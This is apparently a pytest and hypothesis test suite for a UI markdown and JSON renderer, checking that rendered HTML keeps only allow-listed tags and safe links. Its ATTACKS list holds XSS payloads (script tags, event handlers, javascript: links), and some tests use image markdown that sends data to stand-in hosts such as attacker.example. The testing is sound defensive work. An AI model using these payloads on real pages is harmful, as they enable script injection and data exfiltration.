import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.ui.render import JSON_LIMIT, MARKDOWN_LIMIT, json_block, markdown

ALLOWED = re.compile(
    r"</?(a|blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul)( (href|title|start|class|rel|target)=\"[^\"]*\")*>"
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    '<div hx-get="/x" hx-trigger="load">',
    "<style>*{}</style>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,x)",
    "[a](vbscript:x)",
    "[a](/ui/traces/x/feedback)",
    "[a](//evil.example)",
    "<a href=x onclick=alert(1)>b</a>",
    '[a](https://x.example/"onmouseover="alert(1))',
    "`<script>`",
    '```"><script>\n<img src=x onerror=1>\n```',
    "![a](https://evil.example/?q=1)",
    '![<b onclick="x">](https://evil.example)',
    "![x][r]\n\n[r]: https://evil.example/y.png",
]


def assert_safe(html):
    for tag in re.findall(r"<[^>]*>", html):
        assert ALLOWED.fullmatch(tag), tag
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_harmless_tags(attack):
    assert_safe(markdown(attack))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "- ", "*", "`", "[", "](", ")", "<", ">", '"', "&lt;", "|"]) | st.text(max_size=4),
        max_size=12,
    )
)
def test_no_mixture_of_markdown_gets_past_the_allow_list(pieces):
    assert_safe(markdown("".join(pieces)))


def test_an_image_is_named_with_its_host_and_not_loaded():
    html = markdown("![steal](https://attacker.example/?q=secret)")
    assert "<img" not in html
    assert "image not loaded: steal — attacker.example" in html
    assert "secret" not in html


def test_links_tell_their_target_nothing():
    assert 'rel="noopener noreferrer nofollow"' in markdown("[ok](https://example.com)")


def test_what_is_too_long_is_shown_as_it_is():
    assert markdown("*a*" * MARKDOWN_LIMIT).startswith('<pre class="plain">')
    assert "<span" not in json_block("[" + "1," * JSON_LIMIT + "1]")


@given(st.text())
def test_json_is_coloured_without_letting_markup_through(text):
    html = json_block(text)
    assert set(re.findall(r"<[^>]*>", re.sub(r'<span class="[\w -]*">', "", html))) <= {'<pre class="json">', "</pre>", "</span>"}
